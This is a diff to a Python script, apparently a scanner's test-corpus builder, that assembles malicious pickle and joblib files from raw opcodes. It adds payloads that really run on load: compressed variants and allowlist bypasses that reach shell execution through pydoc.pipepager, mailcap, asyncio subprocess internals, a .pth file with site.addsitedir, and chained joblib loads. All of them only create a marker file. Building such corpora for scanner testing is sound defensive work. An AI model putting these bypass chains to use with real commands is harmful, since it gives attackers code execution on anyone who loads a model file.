@@ -1,17 +1,27 @@
 """Builds the malicious pickle corpus byte by byte, one file per bypass class in
 ../shared/reference/security-anchors.md section 4 (and the classic payloads). Nothing here calls
-pickle.dumps on a malicious object, and nothing is ever loaded: every file is assembled from
-opcodes with struct. Each payload only names its target (`os.system` with `echo pwned`); the
-tests scan these files, they never unpickle them.
+pickle.dumps on a malicious object: every pickle is assembled from opcodes with struct, and the
+compressed ones are those same bytes run through the stdlib compressor joblib itself uses.
+
+Two kinds of case:
+- The bypass classes of section 4 only name their target (`os.system` with `echo pwned`); the tests
+  scan these files, nothing here loads them.
+- The cases after "Payloads that really run" (compressed pickles, allowlist bypasses) are real and
+  harmless: loaded with the loader a user would use they create `MODELPACK_PWNED` in the current
+  directory. ./verify_payloads.py proves each of them in a subprocess inside a temporary directory.
 
     python3 make_malicious.py      # writes malicious/*.pkl (and a few other extensions)
 """
+import bz2
+import gzip
 import io
+import lzma
 import shutil
 import struct
 import subprocess
 import tempfile
 import zipfile
+import zlib
 from pathlib import Path
 
 OUT = Path(__file__).resolve().parent / "malicious"
@@ -290,10 +300,9 @@ def _():
     return benign + PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP
 
 
-@case("joblib_payload_after_array_356.joblib")
-def _():
-    # A real joblib layout: a NumpyArrayWrapper for a float64 array of 4 elements, its padding and
-    # data written inline, then the payload, which scanners that stop at the array bytes miss.
+def joblib_payload_after_array(cmd: bytes) -> bytes:
+    """A real joblib layout: a NumpyArrayWrapper for a float64 array of 4 elements, its padding and
+    data written inline, then the payload, which scanners that stop at the array bytes miss."""
     dtype = stack_global("numpy", "dtype") + short_unicode("f8") + b"\x89\x88" + b"\x87" + REDUCE
     dtype += MARK + b"K\x03" + short_unicode("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + b"K\x00" + TUPLE + BUILD
     state = EMPTY_DICT + MARK
@@ -308,8 +317,13 @@ def _():
     head = PROTO(4) + MARK + wrapper
     data = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
     padding = b"\x03" + b"\xff" * 3
-    tail = stack_global("os", "system") + CMD + TUPLE1 + REDUCE + b"l" + STOP
+    tail = stack_global("os", "system") + cmd + TUPLE1 + REDUCE + b"l" + STOP
     return head + padding + data + tail
+
+
+@case("joblib_payload_after_array_356.joblib")
+def _():  # modelscan PR #356: os.system after an inline array (names its target only)
+    return joblib_payload_after_array(CMD)
 
 
 @case("legacy_magic_eval_GHSA-97f8.pt")
@@ -373,6 +387,155 @@ def seven_zip() -> bytes:
         (Path(tmp) / "model.pkl").write_bytes(broken)
         subprocess.run(["bsdtar", "--format", "7zip", "-cf", str(Path(tmp) / "m.7z"), "-C", tmp, "model.pkl"], check=True)
         return (Path(tmp) / "m.7z").read_bytes()
+
+
+# Payloads that really run. Loaded with the loader a user would use (verify_payloads.py records
+# which), each of these creates MODELPACK_PWNED in the current directory, nothing else.
+
+MARKER = short_unicode("touch MODELPACK_PWNED")
+NEWTRUE = b"\x88"
+TUPLE2 = b"\x86"
+EMPTY_LIST = b"]"
+APPEND = b"a"
+APPENDS = b"e"
+SETITEMS = b"u"
+# The classic REDUCE: os.system("touch MODELPACK_PWNED").
+MARKER_PAYLOAD = PROTO(2) + glob("os", "system") + MARKER + TUPLE1 + REDUCE + STOP
+
+
+# joblib.dump(obj, f, compress=...) writes the pickle through one of these (joblib/compressor.py,
+# level 3 by default); joblib.load recognises each by its first bytes. The stdlib calls below give
+# the same bytes as joblib's own file wrappers (verify_payloads.py checks that).
+def joblib_zlib(data: bytes) -> bytes:  # compress=3 or "zlib": a raw zlib stream, starts b"x"
+    c = zlib.compressobj(3, zlib.DEFLATED, zlib.MAX_WBITS, zlib.DEF_MEM_LEVEL, 0)
+    return c.compress(data) + c.flush()
+
+
+def joblib_gzip(data: bytes) -> bytes:  # "gzip": zlib with wbits 31, mtime 0, starts 1f 8b
+    c = zlib.compressobj(3, zlib.DEFLATED, 31, zlib.DEF_MEM_LEVEL, 0)
+    return c.compress(data) + c.flush()
+
+
+def joblib_bz2(data: bytes) -> bytes:  # "bz2": starts b"BZh"
+    return bz2.compress(data, 3)
+
+
+def joblib_xz(data: bytes) -> bytes:  # "xz": lzma FORMAT_XZ, starts fd 37 7a 58 5a 00
+    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=3)
+
+
+def joblib_lzma(data: bytes) -> bytes:  # "lzma": lzma FORMAT_ALONE ("lzma-alone"), starts 5d 00
+    return lzma.compress(data, format=lzma.FORMAT_ALONE, preset=3)
+
+
+@case("compressed_zlib_os_system.joblib")
+def _():  # joblib compress=3 / "zlib" around the classic REDUCE; runs under joblib.load
+    return joblib_zlib(MARKER_PAYLOAD)
+
+
+@case("compressed_gzip_os_system.joblib")
+def _():  # joblib compress=("gzip", 3); runs under joblib.load
+    return joblib_gzip(MARKER_PAYLOAD)
+
+
+@case("compressed_bz2_os_system.joblib")
+def _():  # joblib compress=("bz2", 3); runs under joblib.load
+    return joblib_bz2(MARKER_PAYLOAD)
+
+
+@case("compressed_xz_os_system.joblib")
+def _():  # joblib compress=("xz", 3); runs under joblib.load
+    return joblib_xz(MARKER_PAYLOAD)
+
+
+@case("compressed_lzma_alone_os_system.joblib")
+def _():  # joblib compress=("lzma", 3), the legacy .lzma "alone" format; runs under joblib.load
+    return joblib_lzma(MARKER_PAYLOAD)
+
+
+@case("compressed_zfile_compat_os_system.joblib")
+def _():  # joblib < 0.10's "ZF" z-file (b"ZF" + hex length padded to 19 + zlib), still read by
+    # joblib.load (numpy_pickle_compat.read_zfile, with a DeprecationWarning)
+    return b"ZF" + hex(len(MARKER_PAYLOAD)).ljust(19).encode() + zlib.compress(MARKER_PAYLOAD, 3)
+
+
+@case("compressed_os_system.pkl.gz")
+def _():  # pickle.dump into gzip.open: runs under pickle.load(gzip.open(path)) (mtime 0 for determinism)
+    return gzip.compress(MARKER_PAYLOAD, mtime=0)
+
+
+@case("compressed_os_system.pkl.bz2")
+def _():  # pickle.dump into bz2.open: runs under pickle.load(bz2.open(path))
+    return bz2.compress(MARKER_PAYLOAD)
+
+
+@case("compressed_os_system.pkl.xz")
+def _():  # pickle.dump into lzma.open: runs under pickle.load(lzma.open(path))
+    return lzma.compress(MARKER_PAYLOAD)
+
+
+@case("compressed_gzip_of_zlib.joblib.gz")
+def _():  # double compression: a zlib joblib gzipped again; joblib.load(gzip.open(path)) takes
+    # the file object, sees the zlib magic inside and decompresses again
+    return gzip.compress(joblib_zlib(MARKER_PAYLOAD), mtime=0)
+
+
+@case("compressed_zlib_payload_after_array_356.joblib")
+def _():  # modelscan PR #356 compressed: the payload after an inline float64 array, zlib-compressed
+    return joblib_zlib(joblib_payload_after_array(MARKER))
+
+
+@case("cgitb_pydoc_pipepager.pkl")
+def _():  # allowlist bypass: module cgitb, protocol 4 dotted name pydoc.pipepager (cgitb imports
+    # pydoc), called with (text, command): pipepager runs the command with shell=True
+    return PROTO(4) + stack_global("cgitb", "pydoc.pipepager") + short_unicode("pwned") + MARKER + TUPLE2 + REDUCE + STOP
+
+
+@case("unittest_mock_asyncio_subprocess_start.pkl")
+def _():  # allowlist bypass: module unittest.mock (which imports asyncio), dotted name reaching
+    # asyncio.unix_events._UnixSubprocessTransport._start, the method that calls subprocess.Popen;
+    # called as _start(self=Mock(), args, shell=True, stdin, stdout, stderr, bufsize=0).
+    # (BaseSubprocessTransport._start is abstract, so the chain ends at the Unix subclass.)
+    self = stack_global("unittest.mock", "Mock") + EMPTY_TUPLE + REDUCE
+    start = stack_global("unittest.mock", "asyncio.unix_events._UnixSubprocessTransport._start")
+    args = MARK + self + MARKER + NEWTRUE + NONE + NONE + NONE + b"K\x00" + TUPLE
+    return PROTO(4) + start + args + REDUCE + STOP
+
+
+@case("mailcap_findmatch_test.pkl")
+def _():  # allowlist bypass: mailcap.findmatch(caps, "text/plain") runs each entry's "test" command
+    # with os.system before choosing it (Python 3.11 still ships mailcap)
+    entry = EMPTY_DICT + MARK + short_unicode("view") + short_unicode("true") + short_unicode("test") + MARKER + SETITEMS
+    caps = EMPTY_DICT + MARK + short_unicode("text/plain") + EMPTY_LIST + MARK + entry + APPENDS + SETITEMS
+    return PROTO(4) + stack_global("mailcap", "findmatch") + caps + short_unicode("text/plain") + TUPLE2 + REDUCE + STOP
+
+
+@case("numpy_savetxt_pth_site_addsitedir.pkl")
+def _():  # allowlist bypass in two REDUCEs: numpy.savetxt writes modelpack.pth (one line,
+    # "import os; os.system(...)"), then site.addsitedir(".") processes it and execs that line
+    line = "import os; os.system('touch MODELPACK_PWNED')"
+    savetxt = stack_global("numpy", "savetxt") + MARK + short_unicode("modelpack.pth") + EMPTY_LIST + short_unicode(line) + APPEND
+    savetxt += short_unicode("%s") + TUPLE + REDUCE
+    addsitedir = stack_global("site", "addsitedir") + short_unicode(".") + TUPLE1 + REDUCE
+    return PROTO(4) + savetxt + POP + addsitedir + STOP
+
+
+@case("joblib_load_second_file.pkl")
+def _():  # allowlist bypass: joblib.load of a second file shipped beside the model
+    # (second_file_loaded_by_joblib.pkl, relative to the loader's working directory)
+    return PROTO(4) + stack_global("joblib", "load") + short_unicode("second_file_loaded_by_joblib.pkl") + TUPLE1 + REDUCE + STOP
+
+
+@case("second_file_loaded_by_joblib.pkl")
+def _():  # the file joblib_load_second_file.pkl loads: the classic REDUCE
+    return MARKER_PAYLOAD
+
+
+@case("pathlib_path_write_text.pkl")
+def _():  # allowlist bypass: protocol 4 dotted name pathlib Path.write_text, called with a Path
+    # built by REDUCE as its first argument: Path("MODELPACK_PWNED").write_text("pwned")
+    path = stack_global("pathlib", "Path") + short_unicode("MODELPACK_PWNED") + TUPLE1 + REDUCE
+    return PROTO(4) + stack_global("pathlib", "Path.write_text") + path + short_unicode("pwned") + TUPLE2 + REDUCE + STOP
 
 
 def main() -> None:
